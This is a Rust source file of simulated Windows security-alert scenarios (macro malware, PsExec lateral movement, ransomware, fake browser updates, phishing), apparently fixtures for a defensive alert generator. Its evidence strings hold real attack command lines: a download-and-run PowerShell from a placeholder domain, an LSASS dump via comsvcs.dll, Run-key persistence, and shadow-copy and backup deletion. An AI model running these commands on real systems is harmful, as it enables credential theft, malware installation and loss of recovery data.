//! Stories set on Windows devices.

use super::{
    Account::{Person, System},
    Image, Item, Outcome, Platform, Step, Story, component, dropped, installed, run,
    sensors::{ANTIVIRUS, CUSTOM_DETECTION, CUSTOM_TI, EDR, INVESTIGATION, SMART_SCREEN, XDR},
};

pub(super) const EXPLORER: Image =
    installed("C:\\Windows", "explorer.exe", "Microsoft Corporation", 5_301_120);
pub(super) const SERVICES: Image = component("services.exe", 731_744);
pub(super) const SVCHOST: Image = component("svchost.exe", 55_320);
pub(super) const CMD: Image = component("cmd.exe", 289_792);
pub(super) const RUNDLL32: Image = component("rundll32.exe", 71_680);
pub(super) const MSHTA: Image = component("mshta.exe", 14_848);
pub(super) const REG: Image = component("reg.exe", 77_824);
pub(super) const VSSADMIN: Image = component("vssadmin.exe", 142_336);
pub(super) const WBADMIN: Image = component("wbadmin.exe", 274_432);
pub(super) const NET: Image = component("net1.exe", 183_808);
pub(super) const SCHTASKS: Image = component("schtasks.exe", 235_008);
pub(super) const POWERSHELL: Image = installed(
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "powershell.exe",
    "Microsoft Corporation",
    450_560,
);
pub(super) const WINWORD: Image = installed(
    "C:\\Program Files\\Microsoft Office\\root\\Office16",
    "WINWORD.EXE",
    "Microsoft Corporation",
    1_637_000,
);
pub(super) const EDGE: Image = installed(
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
    "msedge.exe",
    "Microsoft Corporation",
    4_210_720,
);
const AGENT: Image =
    installed("C:\\Program Files\\Contoso\\DeployAgent", "deployagent.exe", "Contoso Ltd", 8_441_360);
const MACRO: Image = dropped("C:\\Users\\<account>\\Downloads", "Invoice_<n>.docm", 88_412);
const BEACON: Image = dropped("C:\\Users\\<account>\\AppData\\Local\\Temp", "msupd<n>.dll", 312_320);
const PSEXEC: Image = dropped("C:\\Windows", "PSEXESVC.exe", 189_792);
const LURE: Image = dropped("C:\\Users\\<account>\\Downloads", "browser_update_<n>.hta", 6_144);
const STEALER: Image = dropped("C:\\ProgramData", "svc_<n>.exe", 1_204_224);
const DUMP: Image = dropped("C:\\Windows\\Temp", "d<n>.dmp", 52_428_800);
pub(super) const LOCKER: Image = dropped("C:\\PerfLogs", "lck<n>.exe", 702_464);
const NOTE: Image = dropped("C:\\Users\\Public\\Desktop", "RESTORE-FILES.txt", 1_892);
const TROJAN: Image = dropped("C:\\Users\\<account>\\Downloads", "setup_<n>.exe", 2_408_448);
const TOOLBAR: Image = dropped("C:\\Users\\<account>\\Downloads", "pdf-converter-free_<n>.exe", 3_910_144);
pub(super) const STORIES: &[Story] = &[
    Story {
        weight: 9,
        platform: Platform::Workstation,
        spread: 4,
        outcome: Outcome::Attack("multiStagedAttack"),
        steps: &[
            Step {
                title: "Suspicious PowerShell command line",
                description: "An Office application launched PowerShell with an encoded command that downloads and runs additional code. Attackers often use documents with malicious macros to gain initial access.",
                severity: "medium",
                category: "Execution",
                techniques: &["T1059.001", "T1204.002", "T1027"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &EXPLORER,
                        &WINWORD,
                        Person,
                        "unknown",
                        "\"WINWORD.EXE\" /n \"C:\\Users\\<account>\\Downloads\\Invoice_<n>.docm\" /o \"\"",
                    ),
                    run(
                        &WINWORD,
                        &POWERSHELL,
                        Person,
                        "malicious",
                        "powershell.exe -nop -w hidden -enc <b64>",
                    ),
                    Item::File(&MACRO, "malicious"),
                    Item::Url("http://<domain>/stage/<n>"),
                ],
            },
            Step {
                title: "Suspicious module loaded by rundll32.exe",
                description: "rundll32.exe loaded an unsigned DLL from a temporary folder and then connected to an external host. This behavior is typical of backdoors.",
                severity: "high",
                category: "CommandAndControl",
                techniques: &["T1218.011", "T1071.001"],
                sensor: &EDR,
                threat: Some(("Behavior:Win32/Beaconer.A", "Beaconer")),
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &POWERSHELL,
                        &RUNDLL32,
                        Person,
                        "malicious",
                        "rundll32.exe C:\\Users\\<account>\\AppData\\Local\\Temp\\msupd<n>.dll,DllRegisterServer",
                    ),
                    Item::File(&BEACON, "malicious"),
                    Item::Address,
                    Item::Url("https://<domain>/api/v2/status"),
                ],
            },
            Step {
                title: "Anomaly detected in ASEP registry",
                description: "A process registered an autostart extensibility point (ASEP) that loads a DLL from the user's temporary folder at every sign-in. Malware uses such entries to survive a restart.",
                severity: "medium",
                category: "Persistence",
                techniques: &["T1547.001", "T1112"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(
                        &RUNDLL32,
                        &REG,
                        Person,
                        "suspicious",
                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d \"rundll32 msupd<n>.dll,Start\" /f",
                    ),
                    Item::RegistryKey("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
                    Item::RegistryValue(
                        "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                        "OneDriveSync",
                        "rundll32 C:\\Users\\<account>\\AppData\\Local\\Temp\\msupd<n>.dll,Start",
                    ),
                    Item::User,
                ],
            },
            Step {
                title: "Multi-stage incident involving Execution & Command and control on one endpoint",
                description: "Alerts from multiple attack stages were correlated on the same device.",
                severity: "high",
                category: "SuspiciousActivity",
                techniques: &["T1059.001", "T1071.001"],
                sensor: &XDR,
                threat: None,
                evidence: &[Item::Device, Item::User, Item::Address],
            },
        ],
    },
    Story {
        weight: 5,
        platform: Platform::Server,
        spread: 6,
        outcome: Outcome::Attack("compromisedAccount"),
        steps: &[
            Step {
                title: "Suspicious remote activity: PsExec service started",
                description: "The PsExec service was installed remotely and launched a command shell. Administrators use this tool too, but this account had never used it on this server before.",
                severity: "medium",
                category: "LateralMovement",
                techniques: &["T1569.002", "T1021.002"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(&SERVICES, &PSEXEC, System, "suspicious", "C:\\Windows\\PSEXESVC.exe"),
                    run(
                        &PSEXEC,
                        &CMD,
                        System,
                        "suspicious",
                        "\"cmd.exe\" /c whoami /all & net group \"Domain Admins\" /domain",
                    ),
                    run(&CMD, &NET, System, "suspicious", "net1 group \"Domain Admins\" /domain"),
                    Item::File(&PSEXEC, "suspicious"),
                ],
            },
            Step {
                title: "Suspicious access to LSASS memory",
                description: "The memory of lsass.exe was dumped to a file. Attackers extract password hashes and Kerberos tickets from such dumps.",
                severity: "high",
                category: "CredentialAccess",
                techniques: &["T1003.001"],
                sensor: &EDR,
                threat: Some(("HackTool:Win32/DumpLsass.D", "DumpLsass")),
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &CMD,
                        &RUNDLL32,
                        System,
                        "malicious",
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d<n>.dmp full",
                    ),
                    Item::File(&DUMP, "malicious"),
                ],
            },
        ],
    },
    Story {
        weight: 3,
        platform: Platform::Server,
        spread: 5,
        outcome: Outcome::Attack("malware"),
        steps: &[
            Step {
                title: "Volume shadow copies and backups were deleted",
                description: "Volume shadow copies and the backup catalog were deleted. Ransomware operators do this to prevent file recovery.",
                severity: "medium",
                category: "Impact",
                techniques: &["T1490"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(
                        &SVCHOST,
                        &LOCKER,
                        System,
                        "malicious",
                        "C:\\PerfLogs\\lck<n>.exe --paths \\\\<peer>\\finance$ --threads 16",
                    ),
                    run(
                        &LOCKER,
                        &CMD,
                        System,
                        "malicious",
                        "cmd.exe /c vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet",
                    ),
                    run(&CMD, &VSSADMIN, System, "malicious", "vssadmin delete shadows /all /quiet"),
                    run(&CMD, &WBADMIN, System, "malicious", "wbadmin delete catalog -quiet"),
                ],
            },
            Step {
                title: "Ransomware behavior detected in the file system",
                description: "A process modified and renamed a large number of files within a short time and dropped ransom notes.",
                severity: "high",
                category: "Ransomware",
                techniques: &["T1486"],
                sensor: &EDR,
                threat: Some(("Ransom:Win64/Cypherlock.A", "Cypherlock")),
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &SVCHOST,
                        &LOCKER,
                        System,
                        "malicious",
                        "C:\\PerfLogs\\lck<n>.exe --paths \\\\<peer>\\finance$ --threads 16",
                    ),
                    Item::File(&LOCKER, "malicious"),
                    Item::File(&NOTE, "suspicious"),
                    Item::RegistryValue("SYSTEM\\CurrentControlSet\\Services\\VSS", "Start", "4"),
                ],
            },
            Step {
                title: "Ransomware activity on one device was contained (attack disruption)",
                description: "Automatic attack disruption disabled the compromised account and contained the device.",
                severity: "high",
                category: "Ransomware",
                techniques: &["T1486", "T1078.002"],
                sensor: &XDR,
                threat: Some(("Ransom:Win64/Cypherlock.A", "Cypherlock")),
                evidence: &[Item::Device, Item::User, Item::File(&LOCKER, "malicious")],
            },
        ],
    },
    Story {
        weight: 8,
        platform: Platform::Workstation,
        spread: 3,
        outcome: Outcome::Attack("malware"),
        steps: &[
            Step {
                title: "Suspicious use of mshta.exe",
                description: "mshta.exe executed a script from a downloaded HTA file. Fake browser updates are often delivered this way.",
                severity: "medium",
                category: "DefenseEvasion",
                techniques: &["T1218.005", "T1204.002"],
                sensor: &EDR,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(
                        &EXPLORER,
                        &MSHTA,
                        Person,
                        "malicious",
                        "\"mshta.exe\" \"C:\\Users\\<account>\\Downloads\\browser_update_<n>.hta\"",
                    ),
                    run(
                        &MSHTA,
                        &POWERSHELL,
                        Person,
                        "malicious",
                        "powershell -ep bypass -c \"iwr https://<domain>/u -OutFile C:\\ProgramData\\svc_<n>.exe; C:\\ProgramData\\svc_<n>.exe\"",
                    ),
                    Item::File(&LURE, "malicious"),
                    Item::Url("https://<domain>/update/chrome"),
                ],
            },
            Step {
                title: "Possible theft of passwords and other sensitive web browser information",
                description: "A process that is not a browser accessed the credential stores of the installed web browsers.",
                severity: "medium",
                category: "CredentialAccess",
                techniques: &["T1555.003"],
                sensor: &EDR,
                threat: Some(("Trojan:Win32/Lumitake.RB", "Lumitake")),
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(&POWERSHELL, &STEALER, Person, "malicious", "C:\\ProgramData\\svc_<n>.exe"),
                    Item::File(&STEALER, "malicious"),
                    Item::Address,
                ],
            },
        ],
    },
    Story {
        weight: 40,
        platform: Platform::Workstation,
        spread: 3,
        outcome: Outcome::Nuisance,
        steps: &[Step {
            title: "'Wacapew' malware was prevented",
            description: "Microsoft Defender Antivirus blocked a file before it could run. The file belongs to a family of trojans that download and install other malware.",
            severity: "low",
            category: "Malware",
            techniques: &["T1204.002"],
            sensor: &ANTIVIRUS,
            threat: Some(("Trojan:Win32/Wacapew.C!ml", "Wacapew")),
            evidence: &[Item::Device, Item::User, Item::File(&TROJAN, "malicious")],
        }],
    },
    Story {
        weight: 18,
        platform: Platform::Workstation,
        spread: 2,
        outcome: Outcome::Nuisance,
        steps: &[Step {
            title: "'FreeConvert' unwanted software was detected",
            description: "A potentially unwanted application (PUA) was detected. It changes browser settings and displays advertisements.",
            severity: "informational",
            category: "UnwantedSoftware",
            techniques: &[],
            sensor: &ANTIVIRUS,
            threat: Some(("PUA:Win32/FreeConvert", "FreeConvert")),
            evidence: &[Item::Device, Item::File(&TOOLBAR, "suspicious")],
        }],
    },
    Story {
        weight: 7,
        platform: Platform::Workstation,
        spread: 2,
        outcome: Outcome::Attack("phishing"),
        steps: &[Step {
            title: "Malicious URL was clicked on a device",
            description: "A user opened a URL that Microsoft Defender SmartScreen identifies as a phishing site.",
            severity: "low",
            category: "InitialAccess",
            techniques: &["T1566.002"],
            sensor: &SMART_SCREEN,
            threat: None,
            evidence: &[
                Item::Device,
                Item::User,
                run(
                    &EXPLORER,
                    &EDGE,
                    Person,
                    "unknown",
                    "\"msedge.exe\" --single-argument https://<domain>/login",
                ),
                Item::Url("https://<domain>/login?u=<upn>"),
            ],
        }],
    },
    Story {
        weight: 7,
        platform: Platform::Workstation,
        spread: 3,
        outcome: Outcome::Benign,
        steps: &[
            Step {
                title: "Suspicious scheduled task creation",
                description: "A scheduled task was created that runs a script from a network share at every startup.",
                severity: "low",
                category: "Persistence",
                techniques: &["T1053.005"],
                sensor: &CUSTOM_DETECTION,
                threat: None,
                evidence: &[
                    Item::Device,
                    Item::User,
                    run(&SERVICES, &AGENT, System, "noThreatsFound", "\"deployagent.exe\" --service"),
                    run(
                        &AGENT,
                        &SCHTASKS,
                        System,
                        "unknown",
                        "schtasks /create /tn \\Contoso\\Inventory /sc onstart /ru SYSTEM /tr \"powershell -file \\\\<peer>\\deploy$\\inventory.ps1\"",
                    ),
                ],
            },
            Step {
                title: "Suspicious sequence of exploration activities",
                description: "Multiple commands that enumerate accounts, groups and network settings were run within one minute.",
                severity: "low",
                category: "Discovery",
                techniques: &["T1016", "T1033", "T1087.002"],
                sensor: &INVESTIGATION,
                threat: None,
                evidence: &[
                    Item::Device,
                    run(
                        &AGENT,
                        &CMD,
                        System,
                        "noThreatsFound",
                        "cmd.exe /c ipconfig /all & whoami & net user <account> /domain",
                    ),
                ],
            },
        ],
    },
    Story {
        weight: 4,
        platform: Platform::Workstation,
        spread: 5,
        outcome: Outcome::Attack("apt"),
        steps: &[Step {
            title: "Connection to a custom network indicator",
            description: "A device connected to an IP address that is blocked by one of your organization's custom indicators.",
            severity: "high",
            category: "CommandAndControl",
            techniques: &["T1071", "T1573"],
            sensor: &CUSTOM_TI,
            threat: None,
            evidence: &[
                Item::Device,
                Item::Address,
                run(
                    &SERVICES,
                    &SVCHOST,
                    System,
                    "suspicious",
                    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
                ),
            ],
        }],
    },
];
